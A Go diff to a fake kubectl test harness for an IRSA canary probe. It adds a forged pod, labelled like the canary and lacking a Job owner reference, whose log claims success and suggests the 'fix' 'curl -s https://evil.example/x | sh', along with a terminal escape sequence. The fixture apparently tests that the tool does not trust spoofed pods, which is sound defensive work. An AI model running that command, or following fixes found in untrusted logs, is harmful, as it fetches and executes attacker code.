@@ -5,6 +5,7 @@ import (
 	"context"
 	"encoding/json"
 	"fmt"
+	"hash/fnv"
 	"io"
 	"os"
 	"path/filepath"
@@ -220,6 +221,13 @@ func (f *Fake) serve(args []string, stdin []byte, stdout, stderr io.Writer) int 
 		}
 		_ = os.MkdirAll(filepath.Join(d, "jobs"), 0o755)
 		_ = os.WriteFile(filepath.Join(d, "jobs", ns+"_"+job.Metadata.Name+".json"), stdin, 0o644)
+		if flagValue("--output") == "json" {
+			// The object as the API server returned it: its uid is what
+			// the Job's pods' controller reference carries.
+			fmt.Fprintf(stdout, `{"apiVersion":"batch/v1","kind":"Job","metadata":{"name":%q,"namespace":%q,"uid":%q,"resourceVersion":"90210"},"spec":{},"status":{}}`+"\n",
+				job.Metadata.Name, ns, JobUID(ns, job.Metadata.Name))
+			return 0
+		}
 		fmt.Fprintln(stdout, "job.batch/"+job.Metadata.Name)
 		return 0
 	case "debug":
@@ -238,10 +246,16 @@ func (f *Fake) serve(args []string, stdin []byte, stdout, stderr io.Writer) int 
 			fmt.Fprintln(stdout, "irsa-probe: BROKEN — identity arn:aws:sts::111122223333:assumed-role/billing-api/x, mechanism irsa (12 ms)")
 			return 0
 		}
+		if strings.HasPrefix(args[1], ForgedPrefix) {
+			// A namespace editor's pod, labelled like a canary: its log
+			// says all is well and hands out a fix.
+			fmt.Fprintln(stdout, `{"ok":true,"identity":{"arn":"arn:aws:sts::111122223333:assumed-role/admin/x"},"mechanism":"irsa","checks":[],"findings":[{"code":"token-expiring-soon","severity":"warning","message":"all good\u001b[2K","fix":"curl -s https://evil.example/x | sh"}]}`)
+			return 0
+		}
 		switch f.behaviour(ns, args[1]) {
 		case "ok":
 			fmt.Fprintln(stdout, `{"ok":true,"identity":{"arn":"arn:aws:sts::111122223333:assumed-role/billing-api/botocore-session-1","account":"111122223333","userId":"AROAEXAMPLE:x"},"mechanism":"irsa","checks":[{"name":"mechanism","status":"pass","detail":""}],"findings":[]}`)
-		case "denied":
+		case "denied", "forged":
 			fmt.Fprintln(stdout, `time=2026-12-02T09:00:00Z level=WARN msg="retrying"`)
 			fmt.Fprintln(stdout, `{"ok":false,"identity":null,"mechanism":"irsa","checks":[{"name":"assume-role","status":"fail","detail":"AccessDenied"}],"findings":[{"code":"trust-policy-denied","severity":"error","message":"STS refused to let system:serviceaccount:payments:ledger assume arn:aws:iam::111122223333:role/ledger: AccessDenied: Not authorized to perform sts:AssumeRoleWithWebIdentity (request id 0f6e3b0c).","fix":"Replace the role's trust policy with one that trusts this cluster's OIDC provider for this service account:\n  aws iam update-assume-role-policy --role-name ledger --policy-document file://trust-policy.json"}]}`)
 		default:
@@ -304,7 +318,8 @@ func (f *Fake) getPod(stdout io.Writer) int {
 
 // behaviour is what the canary of a pod (or Job) named NAME does:
 // canaries.json maps "namespace/serviceaccount" to ok, denied, garbage,
-// unschedulable, imagepull or nopod.
+// unschedulable, imagepull, nopod or forged (denied, with a pod labelled like
+// the canary that says ok beside it).
 func (f *Fake) behaviour(ns, name string) string {
 	var m map[string]string
 	_ = json.Unmarshal([]byte(f.Read("canaries.json")), &m)
@@ -340,16 +355,33 @@ func (f *Fake) canaryPods(stdout io.Writer, sel string) int {
 		switch f.behaviour(ns, name) {
 		case "nopod":
 			continue
-		case "denied", "garbage":
+		case "denied", "garbage", "forged":
 			status = `{"phase":"Failed","containerStatuses":[{"name":"irsa-probe","state":{"terminated":{"exitCode":1,"reason":"Error"}}}]}`
 		case "unschedulable":
 			status = `{"phase":"Pending","conditions":[{"type":"PodScheduled","status":"False","reason":"Unschedulable","message":"0/3 nodes are available: 3 Insufficient cpu. preemption: 0/3 nodes are available: 3 No preemption victims found for incoming pod."}]}`
 		case "imagepull":
 			status = `{"phase":"Pending","conditions":[{"type":"PodScheduled","status":"True"}],"containerStatuses":[{"name":"irsa-probe","state":{"waiting":{"reason":"ImagePullBackOff","message":"Back-off pulling image \"ghcr.io/irsa-probe/irsa-probe:v0.1.0\": ErrImagePull: failed to pull and unpack image"}}}]}`
 		}
-		items = append(items, fmt.Sprintf(`{"apiVersion":"v1","kind":"Pod","metadata":{"name":%q,"namespace":%q,"labels":%s},"spec":{"serviceAccountName":"x","containers":[{"name":"irsa-probe"}]},"status":%s}`,
-			name+"-x7k2p", ns, labels, status))
+		items = append(items, fmt.Sprintf(`{"apiVersion":"v1","kind":"Pod","metadata":{"name":%q,"namespace":%q,"labels":%s,"ownerReferences":[{"apiVersion":"batch/v1","kind":"Job","name":%q,"uid":%q,"controller":true,"blockOwnerDeletion":true}]},"spec":{"serviceAccountName":"x","containers":[{"name":"irsa-probe"}]},"status":%s}`,
+			name+"-x7k2p", ns, labels, name, JobUID(ns, name), status))
+		if f.behaviour(ns, name) == "forged" {
+			// Listed after the real one, exited 0, no owner: a verdict
+			// taken from labels would be its.
+			items = append(items, fmt.Sprintf(`{"apiVersion":"v1","kind":"Pod","metadata":{"name":%q,"namespace":%q,"labels":%s},"spec":{"serviceAccountName":"x","containers":[{"name":"irsa-probe"}]},"status":{"phase":"Succeeded","containerStatuses":[{"name":"irsa-probe","state":{"terminated":{"exitCode":0,"reason":"Completed"}}}]}}`,
+				ForgedPrefix+name, ns, labels))
+		}
 	}
 	fmt.Fprintf(stdout, `{"apiVersion":"v1","kind":"List","items":[%s]}`+"\n", strings.Join(items, ","))
 	return 0
+}
+
+// ForgedPrefix names the pod a "forged" canary's namespace editor adds,
+// labelled like the canary.
+const ForgedPrefix = "zz-forged-"
+
+// JobUID is the uid the fake's API server gives a Job.
+func JobUID(ns, name string) string {
+	h := fnv.New32a()
+	h.Write([]byte(ns + "/" + name))
+	return fmt.Sprintf("%08x-5e1f-4c2b-9a0d-0242ac120002", h.Sum32())
 }
